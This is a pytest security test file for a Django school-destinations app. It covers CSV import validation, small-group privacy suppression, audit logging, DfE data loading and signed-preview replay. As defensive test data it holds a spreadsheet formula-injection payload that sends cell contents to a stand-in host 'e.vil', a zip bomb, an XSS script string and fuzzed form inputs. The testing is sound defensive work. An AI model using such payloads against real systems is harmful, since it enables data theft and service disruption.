"""The attacker's and the careless user's probe of destinations (issue 16): each problem found has a
regression test here (marked "Problem" in its docstring); the rest record what was tried and held,
so that it keeps holding.

Problems found and fixed:
1. A UTF-16 file could carry a NUL character (U+0000) into a destination's "where" (the NUL-byte
   check ran only on the other encodings): PostgreSQL refuses NUL in text, so confirming was a 500.
2. The import preview listed every problem and every update: 10,000 bad rows made a 12 MB page of
   50,000 table rows. It now lists the first `PREVIEW_ROWS` and counts the rest.
3. The add and change forms show a named learner (and the change form the destination's "where")
   without an audited read, unlike the learner's own edit page and the remove page.
4. The analysis showed governors, the Awarding Body and the assessor the destinations of groups of
   one to five learners ("Looked after: 0 of 1") and the complements that give them away by
   subtraction: for roles without learners' records such groups are now not shown.
5. The DfE loader took counts larger than their cohort in a row of numbers, and any value in a row
   with no data type (which the comparison reads as percentages): a school saw "99999900%".
6. A DfE file with a different level_methodology on every row made a release report of one
   note per row (each quoting the whole cell): 20 kinds are told apart, the rest counted together
   (tests/domain/test_dfe_files.py).
7. Smaller: a forged choice got Django's "Select a valid choice. x is not one of the available
   choices." instead of the form's GOV.UK message; a file with a header and no rows was "already
   recorded".
"""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import re
import zipfile
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from qic.core.models import AuditEvent
from qic.destinations import import_views
from qic.destinations.models import Destination, DfeFigure, DfeRelease
from qic.domain import destinations as rules
from qic.domain.academic import year_label
from qic.learners.models import Learner
from qic.organisations.models import Provider, Role, User
from tests.conftest import Cast
from tests.destinations import analysis_helpers as ah
from tests.destinations.entry_factories import destination, known_cohort, last_cohort, leaver, today, upn
from tests.factories import make_member

pytestmark = pytest.mark.django_db

SECRET_FORENAME = "Perpetua"
SECRET_SURNAME = "Thistlewood"
SECRET_PLACE = "Gallowmere Sixth Form College"
SECRET_UPN = upn(7)


def signed_in(user: User, **kwargs: Any) -> Client:
    client = Client(**kwargs)
    client.force_login(user)
    return client


def import_url(provider: Provider) -> str:
    return reverse("destinations:import", args=[provider.urn])


def upload(client: Client, provider: Provider, content: bytes, name: str = "destinations.csv") -> Any:
    return client.post(import_url(provider), {"file": SimpleUploadedFile(name, content, content_type="text/csv")})


def hidden(page: str, name: str) -> str:
    found = re.search(rf'name="{name}" value="([^"]*)"', page)
    assert found is not None, f"no hidden {name} on the page"
    return found.group(1)


def confirm(client: Client, provider: Provider, page: str) -> Any:
    return client.post(import_url(provider), {"confirm": hidden(page, "confirm"), "expected": hidden(page, "expected")})


@pytest.fixture
def school_a(cast: Cast) -> tuple[Learner, Destination]:
    year = last_cohort()
    learner = leaver(cast.p1, 7, year=year, forename=SECRET_FORENAME, surname=SECRET_SURNAME)
    saved = destination(learner, category="sfc", on=dt.date(year + 1, 9, 1), sustained=True, detail=SECRET_PLACE)
    return learner, saved


def no_secret(body: str) -> None:
    for secret in (SECRET_FORENAME, SECRET_SURNAME, SECRET_PLACE, SECRET_UPN):
        assert secret not in body, secret


# =================================================================================================
# Problem 1: a NUL character in a UTF-16 file.
# =================================================================================================


def test_a_nul_character_in_a_utf16_file_is_refused_like_a_nul_byte(cast: Cast) -> None:
    """Problem: the NUL check ran after the UTF-16 branch, so a U+0000 in a cell reached the
    database (PostgreSQL: "A string literal cannot contain NUL", a 500 on confirming)."""
    year = last_cohort()
    leaver(cast.p1, 7, year=year)
    text = f"UPN,destination,date,where\r\n{upn(7)},FE,01/09/{year + 1},Bad\x00Place\r\n"
    leader = signed_in(cast.p1_leader)
    for encoded in (text.encode("utf-16"), codecs.BOM_UTF16_BE + text.encode("utf-16-be")):
        page = upload(leader, cast.p1, encoded).content.decode()
        assert "contains NUL" in page
        assert 'name="confirm"' not in page
    assert not Destination.objects.exists()


def test_utf16_without_nul_is_still_read(cast: Cast) -> None:
    year = last_cohort()
    leaver(cast.p1, 7, year=year)
    text = f"UPN,destination,date,where\r\n{upn(7)},FE,01/09/{year + 1},Zoë’s college\r\n"
    leader = signed_in(cast.p1_leader)
    page = upload(leader, cast.p1, text.encode("utf-16")).content.decode()
    assert confirm(leader, cast.p1, page).status_code == 302
    assert Destination.objects.get().detail == "Zoë’s college"


# =================================================================================================
# Problem 2: the preview's report is bounded and still counts everything.
# =================================================================================================


def test_thousands_of_bad_rows_make_a_bounded_report_that_says_how_many(cast: Cast) -> None:
    """Problem: 9,999 rows of five bad cells each listed 49,995 problems (a 12 MB page)."""
    lines = ["UPN,kind,destination,date,sustained,where"]
    lines += [f'X{n},maybe,Moon,31/02/2025,perhaps,"=HYPERLINK(""http://e.vil"")"' for n in range(9_999)]
    response = upload(signed_in(cast.p1_leader), cast.p1, ("\r\n".join(lines) + "\r\n").encode())
    page = response.content.decode()
    assert response.status_code == 200
    assert len(page) < 400_000
    assert "9999 rows of destinations.csv cannot be imported" in page
    assert "See the 49995 problems" in page
    shown = import_views.PREVIEW_ROWS
    assert page.count('<tr class="govuk-table__row"><td class="govuk-table__cell">') == shown
    assert f"the first {shown} of 49995 problems" in page
    assert "And 49795 more problems, not listed" in page
    assert 'name="confirm"' not in page


def test_thousands_of_updates_are_listed_up_to_the_preview_size(cast: Cast) -> None:
    year = known_cohort()  # "sustained: yes" only once the six months are over (decision 80)
    learners = ah.leavers(cast.p1, year, 250)
    on = dt.date(year + 1, 9, 1)
    Destination.objects.bulk_create(
        [Destination(provider=cast.p1, learner=lr, kind="actual", category="fe", recorded_on=on) for lr in learners]
    )
    lines = ["UPN,destination,date,sustained"] + [f"{lr.upn},FE,01/09/{year + 1},yes" for lr in learners]
    leader = signed_in(cast.p1_leader)
    page = upload(leader, cast.p1, ("\r\n".join(lines) + "\r\n").encode()).content.decode()
    assert re.search(r"To be brought up to date</dt><dd[^>]*>250<", page)
    assert page.count("Sustained: yes</td>") == import_views.PREVIEW_ROWS
    assert "And 50 more to be brought up to date." in page
    assert confirm(leader, cast.p1, page).status_code == 302
    assert Destination.objects.filter(sustained=True).count() == 250  # all of them, not only those shown


# =================================================================================================
# Problem 3: the add and change forms are named reads.
# =================================================================================================


def test_the_add_and_change_forms_record_a_read_of_the_learner(cast: Cast, school_a: tuple) -> None:
    """Problem: the change form shows the learner's name and where they went, with no audited read."""
    learner, saved = school_a
    leader = signed_in(cast.p1_leader)
    for name, args in (
        ("destinations:destination_add", [cast.p1.urn, learner.pk]),
        ("destinations:destination_change", [cast.p1.urn, learner.pk, saved.pk]),
    ):
        before = AuditEvent.objects.filter(action="learner.destinations_viewed").count()
        page = leader.get(reverse(name, args=args)).content.decode()
        assert SECRET_SURNAME in page
        events = AuditEvent.objects.filter(action="learner.destinations_viewed").order_by("pk")
        assert events.count() == before + 1, name
        event = events.last()
        assert event is not None
        assert event.learner_id_ref == learner.pk
        assert event.learner_data
    # A refused save shows the form again, and that is a read too; a save is a change, audited as one.
    url = reverse("destinations:destination_change", args=[cast.p1.urn, learner.pk, saved.pk])
    reads = AuditEvent.objects.filter(action="learner.destinations_viewed").count()
    leader.post(url, {"kind": "actual", "category": "moon"})
    assert AuditEvent.objects.filter(action="learner.destinations_viewed").count() == reads + 1


# =================================================================================================
# Problem 4: small groups, for those who see figures and not learners.
# =================================================================================================


def _cohort_with_one_looked_after_learner(school: Provider, year: int) -> Learner:
    """30 Year 11 leavers, all sustained in FE but one looked-after learner who is NEET."""
    learners = ah.leavers(school, year, 30, surname=SECRET_SURNAME)
    for learner in learners[1:]:
        ah.record(learner, rules.Category.FE_COLLEGE)
    alone = learners[0]
    alone.looked_after = True
    alone.save()
    ah.record(alone, rules.Category.NEET, sustained=None)
    return alone


def _groups(page: str, year: int) -> list[list[str]]:
    return ah.tables_of(page)[f"{year_label(year)} leavers: sustained destinations by group"]


@pytest.mark.parametrize("who", ["p1_governor", "ab1_admin", "assessor_assigned"])
def test_a_looked_after_group_of_one_is_not_shown_to_those_without_learners_records(cast: Cast, who: str) -> None:
    """Problem: "Looked after: 0 of 1" told a governor (who may well know which pupil is looked
    after) that this child is not in a sustained destination; "Not looked after: 29 of 29" beside
    the cohort's 29 of 30 said the same by subtraction."""
    year = ah.cohort_years()[1]
    _cohort_with_one_looked_after_learner(cast.p1, year)
    client = signed_in(cast.user(who))
    page = client.get(reverse("destinations:analysis", args=[cast.p1.urn])).content.decode()
    row = ah.row_of(_groups(page, year), "Looked after")
    assert row[1:4] == ["not shown", "Not looked after: not shown", "not shown"]
    assert "0 of 1" not in page
    assert "29 of 29" not in page
    assert "fewer than 6 learners" in page
    assert "a group (or a cohort) of fewer than 6 learners is not shown" in page
    # The cohort's own figures are still there: 29 of 30 sustained.
    headline = ah.tables_of(page)[f"{year_label(year)} leavers: destinations in the year after leaving"]
    assert ah.row_of(headline, "Sustained education, apprenticeship or employment")[1:3] == ["29", "97%"]
    text = client.get(reverse("destinations:analysis_export", args=[cast.p1.urn])).content.decode("utf-8-sig")
    looked_after = [r for r in csv.reader(io.StringIO(text)) if r[1] == year_label(year) and r[4] == "Looked after"]
    assert looked_after
    assert {r[6] for r in looked_after if r[5] in ("Sustained: the group", "Sustained: the others")} == {
        "not shown",
        "Not looked after: not shown",
    }
    assert "0 of 1" not in text


@pytest.mark.parametrize("who", ["p1_leader", "p1_staff"])
def test_staff_who_see_the_learners_still_see_the_small_groups_counts(cast: Cast, who: str) -> None:
    year = ah.cohort_years()[1]
    _cohort_with_one_looked_after_learner(cast.p1, year)
    page = signed_in(cast.user(who)).get(reverse("destinations:analysis", args=[cast.p1.urn])).content.decode()
    row = ah.row_of(_groups(page, year), "Looked after")
    assert row[1:4] == ["0 of 1 (count only)", "Not looked after: 29 of 29 (100%)", "too few to compare"]
    assert "Figures on fewer than 6 learners are shown as counts only." in page


def test_a_few_learners_of_unknown_sex_hide_the_female_and_male_row(cast: Cast) -> None:
    """Female and male leave out those whose sex is not recorded: the cohort minus both would be them."""
    year = ah.cohort_years()[1]
    for learner in ah.leavers(cast.p1, year, 10, sex="F") + ah.leavers(cast.p1, year, 10, sex="M"):
        ah.record(learner, rules.Category.FE_COLLEGE)
    ah.record(ah.leavers(cast.p1, year, 1, sex="U")[0], rules.Category.NEET, sustained=None)
    page = signed_in(cast.p1_governor).get(reverse("destinations:analysis", args=[cast.p1.urn])).content.decode()
    assert ah.row_of(_groups(page, year), "Female")[1:3] == ["not shown", "Male: not shown"]
    leader = signed_in(cast.p1_leader).get(reverse("destinations:analysis", args=[cast.p1.urn])).content.decode()
    assert ah.row_of(_groups(leader, year), "Female")[1] == "10 of 10 (100%)"


def test_a_few_learners_on_sen_support_alone_hide_the_ehc_plan_row(cast: Cast) -> None:
    """Everyone with an EHC plan is in SEND: SEND minus EHC plan is those on SEN support alone."""
    year = ah.cohort_years()[1]
    for learner in ah.leavers(cast.p1, year, 8, ehc_plan=True) + ah.leavers(cast.p1, year, 20):
        ah.record(learner, rules.Category.FE_COLLEGE)
    ah.record(ah.leavers(cast.p1, year, 1, sen_support=True)[0], rules.Category.NEET, sustained=None)
    page = signed_in(cast.p1_governor).get(reverse("destinations:analysis", args=[cast.p1.urn])).content.decode()
    groups = _groups(page, year)
    assert ah.row_of(groups, "SEND (SEN support or EHC plan)")[1] == "8 of 9 (89%)"
    assert ah.row_of(groups, "EHC plan")[1:3] == ["not shown", "No EHC plan: not shown"]


def test_a_cohort_of_fewer_than_six_is_not_shown_to_those_without_learners_records(cast: Cast) -> None:
    """The DfE withholds every figure of an institution's cohort under 6; a governor knows the
    three leavers of a small sixth form by name."""
    year = ah.cohort_years()[1]
    three = ah.leavers(cast.p1, year, 3)
    ah.record(three[0], rules.Category.NEET, sustained=None)
    ah.record(three[1], rules.Category.FE_COLLEGE)
    url = reverse("destinations:analysis", args=[cast.p1.urn])
    page = signed_in(cast.p1_governor).get(url).content.decode()
    assert "3 learners in the cohort" in page
    assert f"{year_label(year)} leavers by destination" not in page
    assert f"{year_label(year)} leavers: destinations in the year after leaving" not in page
    assert "Fewer than 6 learners in this cohort" in page
    trend = ah.row_of(ah.tables_of(page)["Trend over three cohorts"], year_label(year))
    assert trend[1:3] == ["fewer than 6", "not shown"]
    text = signed_in(cast.p1_governor).get(reverse("destinations:analysis_export", args=[cast.p1.urn]))
    rows = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))
    assert [r for r in rows if r[1] == year_label(year) and r[4] != "Note"] == []
    leader = signed_in(cast.p1_leader).get(url).content.decode()
    categories = ah.tables_of(leader)[f"{year_label(year)} leavers by destination"]
    assert ah.row_of(categories, "Not in education, employment or training (NEET)")[1:] == ["1", "count only"]


# =================================================================================================
# Problem 5: the DfE loader and counts larger than their cohort.
# =================================================================================================

DFE_HEADER = (
    "time_period,time_identifier,geographic_level,country_code,country_name,old_la_code,new_la_code,la_name,"
    "institution_group,breakdown_topic,breakdown,data_type,cohort,overall,education,appren,all_work,all_notsust,"
    "all_unknown\r\n"
)


def _dfe_row(*, data_type: str = "Percentage", cohort: str = "1000", overall: str = "90", name: str = "X") -> str:
    return (
        f'202324,Academic year,Local authority,E92000001,England,201,E09000001,"{name}",'
        f"State-funded mainstream schools,Total,Total,{data_type},{cohort},{overall},50,1,2,3,4\r\n"
    )


def _load(client: Client, text: str, stage: str = "KS4") -> Any:
    file = SimpleUploadedFile("dm.csv", text.encode(), content_type="text/csv")
    return client.post(reverse("destinations:dfe_releases"), {"file": file, "stage": stage})


@pytest.mark.parametrize(
    ("row", "problem"),
    [
        (_dfe_row(data_type="Number of pupils", cohort="10", overall="999999999999"), "more than the cohort (10)"),
        (_dfe_row(data_type="", overall="150"), "over 100 in a row of percentages"),
        (_dfe_row(overall="100.5"), "over 100 in a row of percentages"),
        (_dfe_row(overall="-5"), "is negative"),
        (_dfe_row(overall="1e5"), "is not a number"),
        (_dfe_row(overall="NaN"), "is not a number"),
        (_dfe_row(cohort="99999999999999999999"), "is not a number"),
    ],
)
def test_the_dfe_loader_refuses_absurd_numbers_by_line(cast: Cast, row: str, problem: str) -> None:
    """Problem (the first two): a count above its cohort, or 150 in a row with no data type (read
    as percentages by the comparison), was loaded and shown to schools as 99999999900% or 150%."""
    response = _load(signed_in(cast.consortium), DFE_HEADER + row)
    assert response.status_code == 200
    assert problem in response.content.decode().replace("&#x27;", "'")
    assert not DfeFigure.objects.exists()


def test_a_count_up_to_its_cohort_still_loads(cast: Cast) -> None:
    response = _load(signed_in(cast.consortium), DFE_HEADER + _dfe_row(data_type="Number of pupils", cohort="100"))
    assert response.status_code == 302
    assert DfeFigure.objects.get().values["overall"] == 90


# =================================================================================================
# Problem 7: GOV.UK words for forged choices; a file with no rows.
# =================================================================================================


def test_a_forged_choice_gets_the_forms_own_message(cast: Cast, school_a: tuple) -> None:
    learner, _ = school_a
    year = last_cohort()
    url = reverse("destinations:destination_add", args=[cast.p1.urn, learner.pk])
    data = {
        "kind": "both",
        "category": "moon",
        "sustained": "maybe",
        "recorded_on_day": "1",
        "recorded_on_month": "9",
        "recorded_on_year": str(year + 1),
    }
    page = signed_in(cast.p1_leader).post(url, data).content.decode()
    assert "not one of the available choices" not in page
    assert "Select whether this destination is intended or actual" in page
    assert "Select the destination" in page
    assert "Select whether the destination was sustained" in page


def test_a_file_with_a_header_and_no_rows_says_so(cast: Cast) -> None:
    page = upload(signed_in(cast.p1_leader), cast.p1, b"UPN,destination,date\r\n").content.decode()
    assert "already recorded" not in page
    assert "The file has no rows below its header" in page


# =================================================================================================
# What held: kept as tests so that it keeps holding.
# =================================================================================================

LEARNER_PAGES = (
    "destinations:home",
    "destinations:cohort",
    "destinations:import",
    "destinations:import_template",
)


def _learner_urls(provider: Provider, learner: Learner, saved: Destination) -> list[str]:
    urn = provider.urn
    year = last_cohort()
    return [
        *(reverse(name, args=[urn]) for name in LEARNER_PAGES),
        f"{reverse('destinations:cohort', args=[urn])}?stage=ks4&year={year}",
        reverse("destinations:learner", args=[urn, learner.pk]),
        reverse("destinations:destination_add", args=[urn, learner.pk]),
        reverse("destinations:destination_change", args=[urn, learner.pk, saved.pk]),
        reverse("destinations:destination_remove", args=[urn, learner.pk, saved.pk]),
    ]


@pytest.fixture
def everyone(walk_cast: Cast) -> dict[str, User]:
    cast = walk_cast
    people = {
        name: cast.user(name)
        for name in (
            "p2_leader",
            "ab2_admin",
            "assessor_unassigned",
            "consortium",
            "p1_governor",
            "ab1_admin",
            "assessor_assigned",
            "p1_learner",
            "p2_learner",
        )
    }
    people["p2_staff"] = make_member(Role.PROVIDER_STAFF, provider=cast.p2, email="staff2@example.org")
    people["p2_governor"] = make_member(Role.GOVERNOR, provider=cast.p2, email="governor2@example.org")
    return {name: user for name, user in people.items() if user is not None}


def test_nobody_outside_school_as_staff_reads_or_changes_its_learners_destinations(
    walk_cast: Cast, everyone: dict[str, User], school_a: tuple
) -> None:
    """Every role of school B, the Awarding Bodies, both assessors, the Consortium, school A's
    governor and learners: 404 (another tenant) or 403 (a role without learners' records), on
    every page and every POST, with nothing of school A's learner in the answer."""
    learner, saved = school_a
    cast = walk_cast
    own_b = leaver(cast.p2, 8, year=last_cohort(), forename="Bea", surname="Own")
    own_b_destination = destination(own_b, on=dt.date(last_cohort() + 1, 9, 1))
    for name, user in everyone.items():
        client = signed_in(user)
        urls = _learner_urls(cast.p1, learner, saved)
        # School B's own URLs naming school A's learner and destination.
        urls += [
            reverse("destinations:learner", args=[cast.p2.urn, learner.pk]),
            reverse("destinations:destination_change", args=[cast.p2.urn, learner.pk, saved.pk]),
            reverse("destinations:destination_change", args=[cast.p2.urn, own_b.pk, saved.pk]),
            reverse("destinations:destination_remove", args=[cast.p2.urn, own_b.pk, saved.pk]),
        ]
        for url in urls:
            for response in (client.get(url), client.post(url, {"kind": "actual", "category": "neet"})):
                assert response.status_code in (403, 404, 405), (name, url, response.status_code)
                no_secret(response.content.decode())
    saved.refresh_from_db()
    assert (saved.category, saved.detail) == ("sfc", SECRET_PLACE)
    assert Destination.objects.count() == 2
    assert own_b_destination.pk in Destination.objects.values_list("pk", flat=True)


@pytest.mark.parametrize("who", ["p2_leader", "ab2_admin", "assessor_unassigned", "consortium"])
def test_the_analysis_of_school_a_is_not_found_or_refused_for_others(cast: Cast, school_a: tuple, who: str) -> None:
    client = signed_in(cast.user(who))
    for name in ("destinations:analysis", "destinations:analysis_export"):
        response = client.get(reverse(name, args=[cast.p1.urn]))
        assert response.status_code in (403, 404)
        no_secret(response.content.decode())


@pytest.mark.parametrize("who", ["p1_governor", "ab1_admin", "assessor_assigned", "p1_staff", "p1_leader"])
def test_the_analysis_and_its_csv_name_no_learner_and_say_nowhere_where(cast: Cast, school_a: tuple, who: str) -> None:
    client = signed_in(cast.user(who))
    page = client.get(reverse("destinations:analysis", args=[cast.p1.urn]))
    export = client.get(reverse("destinations:analysis_export", args=[cast.p1.urn]))
    assert page.status_code == export.status_code == 200
    no_secret(page.content.decode())
    no_secret(export.content.decode("utf-8-sig"))


def test_no_destination_event_is_visible_to_the_governor_the_awarding_body_or_the_consortium(
    cast: Cast, school_a: tuple
) -> None:
    from qic.organisations.access import visible_audit_events

    learner, saved = school_a
    leader = signed_in(cast.p1_leader)
    leader.get(reverse("destinations:learner", args=[cast.p1.urn, learner.pk]))
    leader.get(f"{reverse('destinations:cohort', args=[cast.p1.urn])}?stage=ks4&year={last_cohort()}")
    leader.post(reverse("destinations:destination_remove", args=[cast.p1.urn, learner.pk, saved.pk]))
    year = last_cohort()
    page = upload(leader, cast.p1, f"UPN,destination,date\r\n{upn(7)},FE,01/09/{year + 1}\r\n".encode())
    assert confirm(leader, cast.p1, page.content.decode()).status_code == 302
    actions = {
        "learner.destinations_viewed",
        "destinations.cohort_viewed",
        "destination.removed",
        "destinations.import_previewed",
        "destination.created",
        "destinations.imported",
    }
    events = AuditEvent.objects.filter(action__in=actions)
    assert {e.action for e in events} == actions
    assert all(e.learner_data for e in events)
    assert {e.learner_id_ref for e in events if e.action.startswith(("learner.", "destination."))} == {learner.pk}
    assert set(visible_audit_events(cast.p1_leader).filter(action__in=actions).values_list("action", flat=True)) == (
        actions
    )
    for who in ("p1_staff", "p1_governor", "ab1_admin", "assessor_assigned", "consortium", "p2_leader"):
        assert not visible_audit_events(cast.user(who)).filter(action__in=actions).exists(), who


def test_the_dfe_load_is_audited_without_learner_data_for_the_consortium(cast: Cast) -> None:
    from qic.organisations.access import visible_audit_events

    client = signed_in(cast.consortium)
    assert _load(client, DFE_HEADER + _dfe_row()).status_code == 302
    event = AuditEvent.objects.get(action="destinations.dfe_loaded")
    assert not event.learner_data
    assert event.learner_id_ref is None
    assert visible_audit_events(cast.consortium).filter(pk=event.pk).exists()
    assert not visible_audit_events(cast.p1_leader).filter(pk=event.pk).exists()


# --- The import's signed preview ------------------------------------------------------------------


def _previewed(cast: Cast, client: Client) -> str:
    year = last_cohort()
    text = f"UPN,destination,date,where\r\n{upn(7)},HE,01/10/{year + 1},{SECRET_PLACE}\r\n"
    page = upload(client, cast.p1, text.encode()).content.decode()
    assert 'name="confirm"' in page
    return page


def test_school_as_signed_plan_replayed_by_school_b_writes_nothing_and_names_nobody(
    cast: Cast, school_a: tuple
) -> None:
    page = _previewed(cast, signed_in(cast.p1_leader))
    b = signed_in(cast.p2_leader)
    data = {"confirm": hidden(page, "confirm"), "expected": hidden(page, "expected")}
    own = b.post(import_url(cast.p2), data)
    assert own.status_code == 200
    assert "The preview has expired or was changed" in own.content.decode()
    no_secret(own.content.decode())
    assert b.post(import_url(cast.p1), data).status_code == 404
    assert Destination.objects.count() == 1


def test_another_careers_leader_of_the_same_school_cannot_replay_the_plan(cast: Cast, school_a: tuple) -> None:
    page = _previewed(cast, signed_in(cast.p1_leader))
    other = signed_in(make_member(Role.CAREERS_LEADER, provider=cast.p1, email="leader1b@example.org"))
    response = other.post(
        import_url(cast.p1), {"confirm": hidden(page, "confirm"), "expected": hidden(page, "expected")}
    )
    assert "The preview has expired or was changed" in response.content.decode()
    assert Destination.objects.count() == 1


@pytest.mark.parametrize("tamper", ["confirm", "expected"])
def test_a_tampered_plan_writes_nothing(cast: Cast, school_a: tuple, tamper: str) -> None:
    leader = signed_in(cast.p1_leader)
    page = _previewed(cast, leader)
    data = {"confirm": hidden(page, "confirm"), "expected": hidden(page, "expected")}
    value = data[tamper]
    data[tamper] = value[:-3] + ("A" if value[-3] != "A" else "B") + value[-2:]
    body = leader.post(import_url(cast.p1), data).content.decode()
    assert ("expired or was changed" if tamper == "confirm" else "The destinations changed since you checked") in body
    assert Destination.objects.count() == 1


def test_double_submit_and_a_confirm_after_the_data_changed_write_nothing_twice(cast: Cast, school_a: tuple) -> None:
    learner, _ = school_a
    leader = signed_in(cast.p1_leader)
    page = _previewed(cast, leader)
    assert confirm(leader, cast.p1, page).status_code == 302
    again = confirm(leader, cast.p1, page)
    assert again.status_code == 200
    assert "The destinations changed since you checked" in again.content.decode()
    assert Destination.objects.filter(learner=learner, category="he").count() == 1
    assert AuditEvent.objects.filter(action="destinations.imported").count() == 1
    # Someone records one of the file's destinations between the preview and the confirm.
    year = last_cohort()
    page = upload(leader, cast.p1, f"UPN,destination,date\r\n{upn(7)},NEET,02/10/{year + 1}\r\n".encode())
    destination(learner, category="neet", on=dt.date(year + 1, 10, 2))
    stale = confirm(leader, cast.p1, page.content.decode())
    assert "The destinations changed since you checked" in stale.content.decode()
    assert Destination.objects.filter(learner=learner, category="neet").count() == 1


def test_a_post_without_the_csrf_token_is_refused(cast: Cast, school_a: tuple) -> None:
    learner, saved = school_a
    client = signed_in(cast.p1_leader, enforce_csrf_checks=True)
    for url in (
        import_url(cast.p1),
        reverse("destinations:destination_add", args=[cast.p1.urn, learner.pk]),
        reverse("destinations:destination_remove", args=[cast.p1.urn, learner.pk, saved.pk]),
    ):
        assert client.post(url, {"kind": "actual"}).status_code == 403
    assert Destination.objects.filter(pk=saved.pk).exists()


# --- The import's files ----------------------------------------------------------------------------


def _zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * 20_000_000)
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (_zip_bomb(), "File is an Excel workbook (or a ZIP archive), not CSV"),
        (b"UPN,destination,date\r\n" + b"x," * 1_200_000, "The file must be smaller than 2 MB"),
        (b"UPN,destination,date,where\r\nA,FE,1/9/2025," + b"x" * 200_000 + b"\r\n", "field larger than field limit"),
        (b"UPN,destination,date\r\nA\x00,FE,1/9/2025\r\n", "contains NUL bytes"),
        (b"a,b\r\n1,2\r\n", "Missing required columns: UPN or ULN, destination, date"),
        (b'UPN,destination,date\r\n"A,FE,1/9/2025\r\n', "File is not valid CSV"),
        (b"", "The selected file is empty"),
    ],
)
def test_files_that_cannot_be_read_are_refused_whole(cast: Cast, content: bytes, message: str) -> None:
    response = upload(signed_in(cast.p1_leader), cast.p1, content)
    assert response.status_code == 200
    assert message in response.content.decode()
    assert 'name="confirm"' not in response.content.decode()


def test_bad_values_are_reported_by_line_and_column_and_other_schools_upns_read_as_unknown(cast: Cast) -> None:
    year = last_cohort()
    leaver(cast.p1, 7, year=year)
    other = leaver(cast.p2, 9, year=year, forename=SECRET_FORENAME, surname=SECRET_SURNAME)
    rows = [
        f"{upn(7)},actual,FE,31/02/{year + 1},yes,x",
        f"{upn(7)},actual,FE,01/09/1900,yes,x",
        f"{upn(7)},actual,FE,01/09/2100,yes,x",
        f"{upn(7)},actual,<b>FE</b>,01/09/{year + 1},yes,x",
        f"{other.upn},actual,FE,01/09/{year + 1},yes,x",
        f"{upn(99)},actual,FE,01/09/{year + 1},yes,x",
        f"{upn(7)},intended,FE,01/09/{year},yes,x",
    ]
    text = "UPN,kind,destination,date,sustained,where\r\n" + "\r\n".join(rows) + "\r\n"
    page = upload(signed_in(cast.p1_leader), cast.p1, text.encode()).content.decode()
    assert "not a real date" in page
    assert "must be on or after 1 January 2000" in page
    assert "must be today or in the past" in page
    assert "“&lt;b&gt;FE&lt;/b&gt;” is not a destination we know" in page
    assert f"none of your learners has UPN {other.upn}" in page
    assert f"none of your learners has UPN {upn(99)}" in page
    assert "only an actual destination can be sustained" in page
    assert SECRET_SURNAME not in page
    assert SECRET_FORENAME not in page
    assert 'name="confirm"' not in page


def test_a_formula_in_where_stays_text_escaped_on_the_page_and_out_of_every_csv(cast: Cast) -> None:
    year = known_cohort()  # "sustained: yes" only once the six months are over (decision 80)
    learner = leaver(cast.p1, 7, year=year)
    formula = '=HYPERLINK("http://e.vil/?"&A1,"Click")'
    quoted = formula.replace('"', '""')
    text = f'UPN,destination,date,sustained,where\r\n{upn(7)},FE,01/09/{year + 1},yes,"{quoted}"\r\n'
    leader = signed_in(cast.p1_leader)
    page = upload(leader, cast.p1, text.encode()).content.decode()
    assert "=HYPERLINK(&quot;http://e.vil/?&quot;&amp;A1,&quot;Click&quot;)" in page
    assert confirm(leader, cast.p1, page).status_code == 302
    assert Destination.objects.get().detail == formula
    shown = leader.get(reverse("destinations:learner", args=[cast.p1.urn, learner.pk])).content.decode()
    assert "=HYPERLINK(&quot;" in shown
    for name in ("destinations:analysis_export", "destinations:import_template"):
        assert "HYPERLINK" not in leader.get(reverse(name, args=[cast.p1.urn])).content.decode("utf-8-sig")


def test_duplicate_rows_are_left_out_and_rows_that_disagree_refused(cast: Cast) -> None:
    year = known_cohort()  # "sustained: yes" only once the six months are over (decision 80)
    leaver(cast.p1, 7, year=year)
    row = f"{upn(7)},FE,01/09/{year + 1},yes"
    leader = signed_in(cast.p1_leader)
    same = upload(leader, cast.p1, f"UPN,destination,date,sustained\r\n{row}\r\n{row}\r\n".encode()).content.decode()
    assert "the same as line 2" in same
    assert confirm(leader, cast.p1, same).status_code == 302
    assert Destination.objects.count() == 1
    differ = f"UPN,destination,date,sustained\r\n{row}\r\n{row[:-3]}no\r\n"
    page = upload(leader, cast.p1, differ.encode()).content.decode()
    assert "the two rows disagree" in page
    assert 'name="confirm"' not in page


# --- The forms -----------------------------------------------------------------------------------

FUZZ: list[dict[str, Any]] = [
    {},
    {"kind": "both", "category": "moon", "sustained": "maybe"},
    {"detail": "x" * 201},
    {"detail": "a\x00b"},
    {"detail": "<script>alert(1)</script>", "recorded_on_day": "31", "recorded_on_month": "2"},
    {"detail": "Zoë 🚀 \u202e evil", "recorded_on_day": "9" * 40},
    {"recorded_on_day": "-1", "recorded_on_month": "13", "recorded_on_year": "99999"},
    {"recorded_on_day": "١", "recorded_on_month": "٩", "recorded_on_year": "٢٠٢٥"},
    {"recorded_on": "99999-01-01"},
    {"recorded_on_year": "1900"},
    {"recorded_on_year": "2100"},
    {"kind": ["actual", "intended"], "category": ["fe", "he"]},
    {"seen": "garbage" * 5000},
    {"kind": "intended", "category": "unknown"},
]


@pytest.mark.parametrize("fields", FUZZ)
def test_fuzzed_forms_never_fail_and_never_save_nonsense(cast: Cast, school_a: tuple, fields: dict[str, Any]) -> None:
    learner, saved = school_a
    year = last_cohort()
    base: dict[str, Any] = {
        "kind": "actual",
        "category": "fe",
        "recorded_on_day": "1",
        "recorded_on_month": "10",
        "recorded_on_year": str(year + 1),
        "sustained": "True",
        "detail": "A place",
    }
    data = {**base, **fields} if fields else {}
    leader = signed_in(cast.p1_leader)
    for url in (
        reverse("destinations:destination_add", args=[cast.p1.urn, learner.pk]),
        reverse("destinations:destination_change", args=[cast.p1.urn, learner.pk, saved.pk]),
    ):
        response = leader.post(url, data)
        assert response.status_code in (200, 302)
        body = response.content.decode()
        assert "<script>alert" not in body
        if response.status_code == 200:
            assert "govuk-error-summary" in body
    for kept in Destination.objects.all():
        assert "\x00" not in kept.detail
        assert len(kept.detail) <= 200
        assert dt.date(2000, 1, 1) <= kept.recorded_on <= today()


